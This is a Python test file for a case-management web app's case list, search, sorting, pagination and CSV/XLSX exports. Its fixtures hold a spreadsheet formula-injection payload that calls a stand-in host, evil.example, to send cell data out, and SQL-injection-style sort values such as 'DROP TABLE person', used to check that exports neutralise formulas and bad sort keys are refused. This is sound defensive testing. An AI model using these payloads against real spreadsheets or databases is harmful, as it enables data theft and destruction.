"""The case list page and API (search, filters, sort, pages) and the lists' CSV and XLSX files,
in-process (FastAPI's test client) on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from html import unescape

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from builders import VALID_SIRET, make_org, make_person, make_project, open_diagnosis
from pathways.bootstrap import App
from pathways.errors import InvalidInput
from pathways.services.people import accounts
from pathways.services.tx import write
from pathways.web import create_app, export

PASSWORD = "correct horse battery staple"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@dataclass(frozen=True)
class Desk:
    app: App
    client: TestClient
    token: str
    org: int
    officer: int
    colleague: int
    refs: dict[str, str]
    theirs: str  # a case of another organisation


@pytest.fixture
def desk(app: App) -> Iterator[Desk]:
    org, other = make_org(app, name="DLA Paris"), make_org(app, name="DLA Lyon")
    officer = make_person(app, org, name="Camille Martin", email="camille@example.org")
    colleague = make_person(app, org, name="Hugo Petit")
    owner = make_person(app, org, role="owner", name="Inès Dubois-Léger")
    refs = {
        "velo": open_diagnosis(
            app, make_project(app, org, name="Atelier Vélo", siret=VALID_SIRET), officer
        ).ref,
        "owned": open_diagnosis(app, make_project(app, org, name="Recyclerie", owner=owner), colleague).ref,
        "hostile": open_diagnosis(app, make_project(app, org, name=HOSTILE), officer).ref,
    }
    theirs = open_diagnosis(
        app, make_project(app, other, name="Atelier Lyonnais"), make_person(app, other)
    ).ref
    with write(app) as tx:
        accounts.add_user(tx, person=officer, password=PASSWORD, language="fr")
        token = accounts.create_token(tx, person=officer, name="tests").token
    with TestClient(create_app(app)) as client:
        page = client.get("/login").text
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page)
        assert csrf
        form = {
            "login": "camille@example.org",
            "password": PASSWORD,
            "csrf_token": csrf.group(1),
            "next": "/cases",
        }
        assert client.post("/login", data=form, follow_redirects=False).status_code == 303
        yield Desk(app, client, token, org, officer, colleague, refs, theirs)


def listed(html: str) -> list[str]:
    """The case references a list page shows, in order."""
    return re.findall(r'<td data-label="[^"]*" class="ref"><a href="/cases/([A-Z]+-\d{4}-\d+)"', html)


def link_of(html: str, fmt: str) -> str:
    """The page's download link for a format."""
    found = re.search(rf'href="([^"]*format={fmt})"', html)
    assert found, f"no {fmt} link"
    return unescape(found.group(1))


def api(desk: Desk, query: str) -> tuple[list[str], int]:
    response = desk.client.get(f"/api/v1/cases?{query}", headers={"Authorization": f"Bearer {desk.token}"})
    assert response.status_code == 200, response.text
    return [c["ref"] for c in response.json()], int(response.headers["X-Total-Count"])


def test_every_page_has_the_search_box_and_it_finds_by_each_reading(desk: Desk) -> None:
    for path in ("/cases", "/due", f"/cases/{desk.refs['velo']}"):
        html = desk.client.get(path).text
        form = re.search(r'<form role="search"[^>]*action="/cases"[^>]*>.*?</form>', html, re.DOTALL)
        assert form, path
        assert 'name="q"' in form.group(0)
    velo, owned = desk.refs["velo"], desk.refs["owned"]
    for typed, expected in [
        (velo.lower(), [velo]),  # the reference, in any case
        ("velo", [velo]),  # a project's word without its accent
        ("ATELIER", [velo]),  # not the other organisation's "Atelier Lyonnais"
        ("732 829 320 00074", [velo]),  # the SIRET with spaces
        ("leger", [owned]),  # the owner's name, accents aside
        ("hugo petit", [owned]),  # the officer's name
    ]:
        html = desk.client.get("/cases", params={"q": typed}).text
        assert listed(html) == expected, typed
        assert api(desk, f"q={typed}") == (expected, len(expected)), typed


def test_another_organisations_case_is_never_found_even_by_its_exact_reference(desk: Desk) -> None:
    html = desk.client.get("/cases", params={"q": desk.theirs}).text
    assert listed(html) == []
    assert f"/cases/{desk.theirs}" not in html
    assert "Lyonnais" not in html
    assert api(desk, f"q={desk.theirs}&status=all") == ([], 0)
    assert api(desk, "q=lyonnais&status=all") == ([], 0)


def test_the_list_shows_titles_and_names_never_ids(desk: Desk) -> None:
    html = desk.client.get("/cases", params={"q": "recyclerie"}).text
    cells = unescape(html)
    assert "Diagnostic partagé" in cells or "Diagnostic" in cells
    assert "Accueil et orientation" in cells  # the stage's French title, not "intake"
    assert ">intake<" not in html
    assert ">diagnosis<" not in html
    assert "Hugo Petit" in cells
    options = re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', html)
    assert (str(desk.colleague), "Hugo Petit") in options  # the officer filter lists people by name


def test_filters_live_in_the_url_and_combine(desk: Desk) -> None:
    velo, owned, hostile = desk.refs["velo"], desk.refs["owned"], desk.refs["hostile"]
    assert sorted(listed(desk.client.get("/cases").text)) == sorted([velo, hostile])  # my open cases
    assert listed(desk.client.get("/cases", params={"officer": desk.colleague}).text) == [owned]
    everyone = listed(
        desk.client.get("/cases", params={"officer": "", "pathway": "diagnosis", "stage": "intake"}).text
    )
    assert sorted(everyone) == sorted([velo, owned, hostile])
    assert listed(desk.client.get("/cases", params={"officer": "", "status": "closed"}).text) == []
    assert listed(desk.client.get("/cases", params={"officer": "", "overdue": "1"}).text) == []
    assert listed(desk.client.get("/cases", params={"show": "all", "stage": "committee"}).text) == []
    html = desk.client.get(
        "/cases", params={"q": "atelier", "officer": "", "status": "open", "sort": "-due"}
    ).text
    # The form and every link keep the choices: a list can be bookmarked.
    assert 'name="sort" value="-due"' in html
    assert 'value="open" selected' in html
    assert re.search(r'href="/cases\?q=atelier&amp;officer=&amp;status=open&amp;sort=ref&amp;page=1"', html)
    assert api(desk, f"officer={desk.colleague}") == ([owned], 1)
    assert api(desk, "stage=intake&pathway=diagnosis&sort=ref") == (sorted([velo, owned, hostile]), 3)
    assert api(desk, "overdue=true") == ([], 0)


@pytest.mark.parametrize(
    "hostile", ["id; DROP TABLE person", "project.name", "-", "officer_id desc", "(SELECT 1)", "x" * 300]
)
def test_a_sort_key_outside_the_list_is_left_out_or_refused(desk: Desk, hostile: str) -> None:
    page = desk.client.get("/cases", params={"officer": "", "sort": hostile})
    assert page.status_code == 200
    assert "laissé de côté" in unescape(page.text)  # said, in French, and named
    assert "Tri" in unescape(page.text)
    assert len(listed(page.text)) == 3
    refused = desk.client.get(
        "/api/v1/cases", params={"sort": hostile}, headers={"Authorization": f"Bearer {desk.token}"}
    )
    assert refused.status_code == 422


def test_sorting_by_each_column_both_ways(desk: Desk) -> None:
    for key in ("ref", "project", "pathway", "stage", "status", "due", "officer", "opened"):
        ups = listed(desk.client.get("/cases", params={"officer": "", "sort": key}).text)
        downs = listed(desk.client.get("/cases", params={"officer": "", "sort": f"-{key}"}).text)
        assert len(ups) == 3, key
        assert sorted(ups) == sorted(downs), key
    by_project = listed(desk.client.get("/cases", params={"officer": "", "sort": "project"}).text)
    assert by_project == [desk.refs["hostile"], desk.refs["velo"], desk.refs["owned"]]  # "=", "A", "R"
    assert api(desk, "sort=-ref") == (sorted(desk.refs.values(), reverse=True), 3)


def test_pages_of_fifty_with_links_and_the_total(app: App, desk: Desk) -> None:
    project = make_project(app, desk.org, name="Coopérative Multi", siret=None)
    extra = [open_diagnosis(app, project, desk.officer).ref for _ in range(52)]
    first = desk.client.get("/cases").text
    assert len(listed(first)) == 50
    assert "54 dossiers" in unescape(first)
    assert "page 1 sur 2" in unescape(first)
    assert 'aria-current="page"' in first
    assert "page=2" in first
    second = desk.client.get("/cases", params={"page": 2}).text
    assert len(listed(second)) == 4
    assert set(listed(first)) | set(listed(second)) >= set(extra)
    beyond = desk.client.get("/cases", params={"page": 9}).text
    assert listed(beyond) == []
    assert 'href="/cases?officer=me&amp;status=open&amp;sort=-opened&amp;page=1"' in beyond
    refs, total = api(desk, "limit=20&page=3")  # every case of the organisation: mine and Hugo's
    assert (len(refs), total) == (15, 55)
    assert api(desk, "limit=20&offset=40")[0] == refs  # the former parameters still work


def test_the_case_list_as_csv_keeps_its_filters_and_neutralises_formulas(desk: Desk) -> None:
    html = desk.client.get("/cases", params={"officer": "", "sort": "project"}).text
    link = link_of(html, "csv")
    assert "sort=project" in link
    assert "officer=" in link
    response = desk.client.get(link)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Dossier", "Projet", "Parcours", "Étape"]
    assert [r[0] for r in rows[1:]] == [desk.refs["hostile"], desk.refs["velo"], desk.refs["owned"]]
    assert rows[1][1] == "'" + HOSTILE  # shown as text by a spreadsheet, never run
    assert rows[2][3] == "Accueil et orientation"
    mine = list(
        csv.reader(io.StringIO(desk.client.get("/cases?q=velo&format=csv").content.decode("utf-8-sig")))
    )
    assert [r[0] for r in mine[1:]] == [desk.refs["velo"]]


def test_the_case_list_as_xlsx_writes_text_as_text(desk: Desk) -> None:
    response = desk.client.get("/cases", params={"officer": "", "sort": "project", "format": "xlsx"})
    assert response.status_code == 200
    assert response.headers["content-type"] == export.MEDIA_TYPES["xlsx"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [list(row) for row in sheet.iter_rows()]
    assert [c.value for c in cells[0][:2]] == ["Dossier", "Projet"]
    hostile = cells[1][1]
    assert hostile.value == "'" + HOSTILE
    assert hostile.data_type == "s"
    assert all(c.data_type != "f" for row in cells for c in row)
    assert cells[2][0].value == desk.refs["velo"]


def test_the_due_list_exports_too(app: App, desk: Desk) -> None:
    late = app.clock.now() - timedelta(days=40)
    overdue = open_diagnosis(
        app, make_project(app, desk.org, name="+33 Ressourcerie"), desk.officer, at=late
    ).ref
    html = desk.client.get("/due", params={"show": "all"}).text
    link = link_of(html, "xlsx")
    assert "show=all" in link
    sheet = load_workbook(io.BytesIO(desk.client.get(link).content)).active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:2] == ["Dossier", "Projet"]
    assert values[1][:2] == [overdue, "'+33 Ressourcerie"]
    assert values[1][3:6] == ["Accueil et orientation", values[1][4], "oui"]
    rows = list(
        csv.reader(io.StringIO(desk.client.get("/due?show=all&format=csv").content.decode("utf-8-sig")))
    )
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_an_export_past_its_limit_is_refused_in_the_readers_language() -> None:
    columns = [export.Column("n", lambda n: n)]
    with pytest.raises(InvalidInput) as refused:
        export.respond("csv", "cases", columns, range(3), lang="fr", max_rows=2)
    assert "Plus de 2 lignes" in refused.value.message
    assert export.respond("csv", "cases", columns, range(2), lang="fr", max_rows=2).status_code == 200
